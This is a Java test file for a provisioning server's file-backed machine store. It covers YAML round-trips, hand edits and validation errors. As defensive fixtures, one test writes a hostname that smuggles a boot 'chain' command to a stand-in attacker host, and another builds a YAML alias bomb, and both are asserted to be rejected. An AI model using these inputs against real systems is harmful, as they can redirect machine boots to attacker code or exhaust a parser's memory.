package dev.provisioner.server.store;

import static org.assertj.core.api.Assertions.assertThat;

import dev.provisioner.server.core.Machine;
import dev.provisioner.server.core.MachineState;
import dev.provisioner.server.core.MachineStore;
import dev.provisioner.server.core.MachineStoreContract;
import dev.provisioner.server.core.Problem;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The contract, plus what only files have: the YAML on disk, hand edits, broken files. */
class FileMachineStoreTest extends MachineStoreContract {

    @TempDir
    Path data;

    @Override
    protected MachineStore store() {
        return new FileMachineStore(data);
    }

    @Override
    protected MachineStore reopened() {
        FileMachineStore reopened = new FileMachineStore(data);
        reopened.refresh();
        return reopened;
    }

    @Test
    void aHandEditedHostnameThatWouldInjectABootCommandIsAProblemAndTheLastGoodVersionStays() throws Exception {
        FileMachineStore store = new FileMachineStore(data);
        Machine good = new Machine(mac(1), "node-1", "worker", Map.of(), Map.of());
        store.create(good);
        Path file = data.resolve("machines/52-54-00-00-00-01.yaml");
        Files.writeString(file, "profile: worker\nhostname: \"evil\\nchain http://attacker.example/x\"\n");
        store.refresh();
        assertThat(store.get(mac(1))).contains(good);
        assertThat(store.problems()).singleElement().satisfies(problem -> {
            assertThat(problem.file()).isEqualTo("machines/52-54-00-00-00-01.yaml");
            assertThat(problem.line()).isEqualTo(2);
            assertThat(problem.column()).isEqualTo(11);
            assertThat(problem.message()).startsWith("hostname: must be an RFC 1123 host name");
        });
        // a new file that breaks a rule is never served at all
        Files.writeString(data.resolve("machines/52-54-00-00-00-02.yaml"),
                "profile: worker\nlabels:\n  rack: \"r1\\u0007\"\n");
        store.refresh();
        assertThat(store.get(mac(2))).isEmpty();
        assertThat(store.problems()).extracting(Problem::toString)
                .contains("machines/52-54-00-00-00-02.yaml:3:9: labels.rack: label values are at most 253 characters "
                        + "without control characters");
    }

    @Test
    void aMachinesStateIsWrittenAndReadAndAMisspeltOneIsAProblemAtItsLine() throws Exception {
        FileMachineStore store = new FileMachineStore(data);
        Machine local = machine(1).withState(MachineState.LOCAL);
        store.create(local);
        assertThat(Files.readString(data.resolve("machines/52-54-00-00-00-01.yaml"))).contains("state: local");
        FileMachineStore reopened = new FileMachineStore(data);
        reopened.refresh();
        assertThat(reopened.get(mac(1))).hasValueSatisfying(m -> assertThat(m.lifecycle()).isEqualTo(MachineState.LOCAL));
        Files.writeString(data.resolve("machines/52-54-00-00-00-02.yaml"), "profile: worker\nstate: lcoal\n");
        reopened.refresh();
        assertThat(reopened.get(mac(2))).isEmpty();
        assertThat(reopened.problems()).extracting(Problem::toString).contains("machines/52-54-00-00-00-02.yaml:2:8: "
                + "state: 'lcoal' is not a machine state (provision, local, reprovision, failed)");
    }

    @Test
    void writesOneYamlFilePerMachineAndReadsItBack() throws Exception {
        FileMachineStore store = new FileMachineStore(data);
        store.create(machine(1));
        Path file = data.resolve("machines/52-54-00-00-00-01.yaml");
        assertThat(Files.readString(file)).contains("mac: '52:54:00:00:00:01'", "hostname: node-1", "profile: worker",
                "rack: r1", "slot: 1");
        FileMachineStore reopened = new FileMachineStore(data);
        reopened.refresh();
        assertThat(reopened.get(mac(1))).contains(machine(1));
        assertThat(reopened.problems()).isEmpty();
    }

    @Test
    void leavesNoTemporaryFilesBehind() throws Exception {
        FileMachineStore store = new FileMachineStore(data);
        for (int i = 0; i < 20; i++) {
            store.put(machine(i));
        }
        store.delete(mac(3));
        try (Stream<Path> files = Files.list(data.resolve("machines"))) {
            assertThat(files.map(p -> p.getFileName().toString()))
                    .hasSize(19).allMatch(name -> name.matches("52-54-00-00-00-[0-9a-f]{2}\\.yaml"));
        }
    }

    @Test
    void picksUpHandEditsAndDeletions() throws Exception {
        FileMachineStore store = new FileMachineStore(data);
        store.create(machine(1));
        Files.writeString(data.resolve("machines/52-54-00-00-00-02.yaml"), "profile: worker\nhostname: by-hand\n");
        Files.writeString(data.resolve("machines/52-54-00-00-00-01.yaml"), "profile: other\n");
        store.refresh();
        assertThat(store.get(mac(2)).orElseThrow().hostname()).isEqualTo("by-hand");
        assertThat(store.get(mac(1)).orElseThrow().profile()).isEqualTo("other");
        Files.delete(data.resolve("machines/52-54-00-00-00-01.yaml"));
        store.refresh();
        assertThat(store.get(mac(1))).isEmpty();
        assertThat(store.list()).extracting(Machine::mac).containsExactly(mac(2));
    }

    @Test
    void keepsServingTheLastGoodVersionOfABrokenFileAndSaysWhere() throws Exception {
        FileMachineStore store = new FileMachineStore(data);
        store.create(machine(1));
        Path file = data.resolve("machines/52-54-00-00-00-01.yaml");
        Files.writeString(file, "profile: worker\nlabels:\n  rack: [unclosed\n");
        store.refresh();
        assertThat(store.get(mac(1))).contains(machine(1));
        assertThat(store.problems()).singleElement().satisfies(problem -> {
            assertThat(problem.file()).isEqualTo("machines/52-54-00-00-00-01.yaml");
            assertThat(problem.line()).isEqualTo(4);
            assertThat(problem.column()).isEqualTo(1);
        });
        Files.writeString(file, "profile: fixed\n");
        store.refresh();
        assertThat(store.get(mac(1)).orElseThrow().profile()).isEqualTo("fixed");
        assertThat(store.problems()).isEmpty();
    }

    @Test
    void neverServesAHalfValidMachine() throws Exception {
        Files.createDirectories(data.resolve("machines"));
        Files.writeString(data.resolve("machines/52-54-00-00-00-07.yaml"),
                "hostname: x\nprofile: worker\nlables:\n  rack: r1\n");
        Files.writeString(data.resolve("machines/52-54-00-00-00-08.yaml"),
                "mac: 52:54:00:00:00:09\nprofile: worker\n");
        Files.writeString(data.resolve("machines/not-a-mac.yaml"), "profile: worker\n");
        FileMachineStore store = new FileMachineStore(data);
        store.refresh();
        assertThat(store.list()).isEmpty();
        assertThat(store.problems()).extracting(Problem::toString).containsExactly(
                "machines/52-54-00-00-00-07.yaml:3:1: unknown key 'lables'; did you mean 'labels'?",
                "machines/52-54-00-00-00-08.yaml:1:6: mac 52:54:00:00:00:09 differs from the file name (52-54-00-00-00-08.yaml)",
                "machines/not-a-mac.yaml: the file name is not a valid machines name; the file is ignored");
    }

    @Test
    void refusesDuplicateKeysAndAliasBombs() throws Exception {
        Files.createDirectories(data.resolve("machines"));
        Files.writeString(data.resolve("machines/52-54-00-00-00-01.yaml"), "profile: a\nprofile: b\n");
        StringBuilder bomb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            char p = (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [*").append(p).append(", *").append(p).append(", *")
                    .append(p).append(", *").append(p).append(", *").append(p).append(", *").append(p).append("]\n");
        }
        Files.writeString(data.resolve("machines/52-54-00-00-00-02.yaml"), "profile: a\nmetadata:\n  "
                + bomb.toString().replace("\n", "\n  "));
        FileMachineStore store = new FileMachineStore(data);
        store.refresh();
        assertThat(store.list()).isEmpty();
        assertThat(store.problems()).extracting(Problem::message)
                .anySatisfy(m -> assertThat(m).contains("duplicate key 'profile' (first given on line 1)"))
                .anySatisfy(m -> assertThat(m).containsIgnoringCase("aliases"));
    }

}